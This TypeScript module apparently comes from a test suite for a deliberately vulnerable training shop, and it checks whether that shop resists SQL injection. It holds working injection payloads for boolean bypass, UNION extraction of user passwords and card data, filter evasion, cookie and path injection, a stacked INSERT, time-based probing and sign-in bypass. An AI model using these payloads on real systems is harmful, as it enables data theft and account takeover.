import { HIDDEN_PRODUCT, USERS } from '../seed.ts'
import { holding, lookAfter, single, type Attack, type Finding } from './attack.ts'
import { form, jsonBody, type Echo } from './wire.ts'

const CHAPTER = 'SQL Injection Prevention'
const q = encodeURIComponent
const PASSWORD = USERS[0]?.password ?? ''
const UNION = "x' UNION SELECT id, password, email, 1, card FROM users --"

const passwords = holding(PASSWORD, 'passwords of all users')
const hidden = holding(HIDDEN_PRODUCT, 'the hidden product')
/** In JSON, `'` can be written in six characters; a filter of raw bytes does not see it. */
const escaped = (text: string): string => text.replaceAll("'", '\\u0027')

const signedIn = (reply: Echo): string | undefined =>
  /\bshop_user=1;/.test(String(reply.headers['set-cookie'])) ? 'signed in as the administrator' : undefined

const sql = (id: string, tries: string, run: Attack['run']): Attack => ({
  id: `sql-injection-${id}`,
  chapter: CHAPTER,
  tries,
  kind: 'active',
  run,
})

/** SQL injection in each place that the shop takes text from. Those at the sign-in come with the sign-in attacks. */
export const INJECTION: readonly Attack[] = [
  sql('boolean', "search for ' OR '1'='1", single({ target: `/search?q=${q("' OR '1'='1")}` }, hidden)),
  sql(
    'no-space',
    "'OR/**/1=1-- without a space",
    single({ target: `/search?q=${q("9'OR/**/1=1--")}` }, hidden),
  ),
  sql('union', 'UNION SELECT the users', single({ target: `/search?q=${q(UNION)}` }, passwords)),
  sql(
    'comments',
    'UnIoN/**/SeLeCt with comments and mixed case',
    single({ target: `/search?q=${q(UNION.replaceAll(' ', '/**/').replace('UNION', 'uNiOn'))}` }, passwords),
  ),
  sql('api', 'the same by the JSON API', single({ target: `/api/search?q=${q(UNION)}` }, passwords)),
  sql('json', 'UNION in a JSON body', single(jsonBody('POST', '/api/search', { q: UNION }), passwords)),
  sql(
    'json-escaped',
    'UNION in JSON with \\u0027 for the quote',
    single(jsonBody('POST', '/api/search', escaped(JSON.stringify({ q: UNION }))), passwords),
  ),
  sql(
    'path',
    'UNION in the path',
    single(
      { target: `/products/${q('0 UNION SELECT id, password, email, 1, card, 0 FROM users')}` },
      passwords,
    ),
  ),
  sql(
    'cookie',
    "OR role='admin' in the cookie",
    single(
      { target: '/api/profile', headers: { Cookie: `shop_user=${q("0 OR role='admin'")}` } },
      holding('"role": "admin"', 'the administrator’s profile'),
    ),
  ),
  sql('stacked', 'a second statement in the newsletter form', stacked),
  sql('time', 'a slow expression, to read the database by the clock', timed),
]

/** SQL injection at the sign-in, which may be limited per minute. */
export const SIGN_IN_INJECTION: readonly Attack[] = [
  sql(
    'form',
    "e-mail vera@... ' --, any password",
    single(form('/login', { email: "vera@shop.example' --", password: 'x' }), signedIn),
  ),
  sql(
    'login-json',
    "the guide's ' OR '1'='1' -- by the API",
    single(jsonBody('POST', '/api/login', { email: "' OR '1'='1' --", password: 'x' }), signedIn),
  ),
]

async function stacked(field: Parameters<Attack['run']>[0]): Promise<Finding> {
  const mark = `stacked ${field.nonce}`
  const email = `x'); INSERT INTO comments (product_id, author, text) VALUES (18, 'drill', '${mark}'); --`
  const reply = await field.shoot(form('/newsletter', { email }))
  const look = await lookAfter(field, reply, { target: '/products/18' })
  return { effect: look.text.includes(mark) ? 'wrote a row of its own' : undefined, reply }
}

/** Measures twice: the cheap expression, then the dear one. */
async function timed(field: Parameters<Attack['run']>[0]): Promise<Finding> {
  const ask = async (rounds: number): Promise<Echo> => {
    const count = `(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<${rounds}) SELECT count(*) FROM c)`
    return await field.shoot({ target: `/search?q=${q(`zz' OR ${count}=0 --`)}` })
  }
  const quick = await ask(1)
  const slow = await ask(4_000_000)
  const isSlower = slow.status === 200 && slow.elapsedMs > quick.elapsedMs * 3 && slow.elapsedMs > 200
  return { effect: isSlower ? `the reply took ${Math.round(slow.elapsedMs)} ms` : undefined, reply: slow }
}
